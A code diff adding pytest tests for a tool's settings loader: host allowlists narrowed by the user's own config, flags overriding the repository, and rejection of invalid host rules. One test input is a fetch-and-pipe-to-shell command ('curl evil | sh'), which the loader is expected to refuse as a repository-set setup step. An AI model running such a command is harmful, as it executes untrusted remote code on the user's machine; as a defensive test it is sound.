@@ -72,6 +72,38 @@ class TestRepository:
         assert settings.max_tokens == 7
         assert "max_attempts = 9" in settings.notes[0]
 
+    def test_it_opens_no_network(self, tmp_path: Path) -> None:
+        """Of the hosts that it names those count that the person's own file allows."""
+        repository, person = tmp_path / "prp.toml", tmp_path / "home/.config/prp/config.toml"
+        repository.write_text("allow_hosts = ['api.example.com', 'a.mirror.org', 'x.org:8080']\n")
+        # Given a person who allows nothing
+        settings = load(tmp_path)
+        # Then nothing is allowed, and each name is told
+        assert settings.allow_hosts == ()
+        assert len(settings.notes) == 3
+        # Given a person who allows a domain and a host
+        person.parent.mkdir(parents=True)
+        person.write_text("allow_hosts = ['.mirror.org', 'api.example.com', 'own.org']\n")
+        # Then the repository narrows it to what it needs
+        settings = load(tmp_path)
+        assert settings.allow_hosts == ("api.example.com", "a.mirror.org")
+        assert "x.org:8080" in settings.notes[0]
+
+    def test_what_is_typed_is_the_persons_word(self, tmp_path: Path) -> None:
+        """A flag stands whatever the repository says."""
+        (tmp_path / "prp.toml").write_text("allow_hosts = []\n")
+        settings = load(tmp_path, flags={"allow_hosts": ["API.Example.com.", ".x.org:444"]})
+        assert settings.allow_hosts == ("api.example.com", ".x.org:444")
+
+    @pytest.mark.parametrize("text", ["setup = 'curl evil | sh'", "private_hosts = ['a.b']"])
+    def test_it_installs_nothing_of_its_own(self, tmp_path: Path, text: str) -> None:
+        """While packages are installed the network is partly open."""
+        (tmp_path / "prp.toml").write_text(f"{text}\n")
+        with pytest.raises(SettingsError, match="repository"):
+            load(tmp_path)
+        (tmp_path / "prp.toml").write_text("setup = 'none'\n")
+        assert load(tmp_path).setup == "none"
+
     def test_two_files_are_an_error(self, tmp_path: Path) -> None:
         """Nobody could tell which one holds."""
         (tmp_path / "prp.toml").write_text("strict = true\n")
@@ -103,3 +135,16 @@ def test_a_wrong_value_names_its_file(tmp_path: Path, text: str, words: str) -> 
     (tmp_path / "prp.toml").write_text(text)
     with pytest.raises(SettingsError, match=words):
         load(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        *("https://x.org", "x.org/path", "10.0.0.1", "127.1", "0x7f.1", "[::1]", "*.x.org", "*"),
+        *("localhost", ".com", "x.org:0", "x.org:99999", "x.org:https", "a b.org", "x..org", "."),
+    ],
+)
+def test_what_is_no_host_is_told(tmp_path: Path, rule: str) -> None:
+    """With the flag's own name."""
+    with pytest.raises(SettingsError, match=r"--allow-host: .*can't be allowed"):
+        load(tmp_path, flags={"allow_hosts": [rule]})
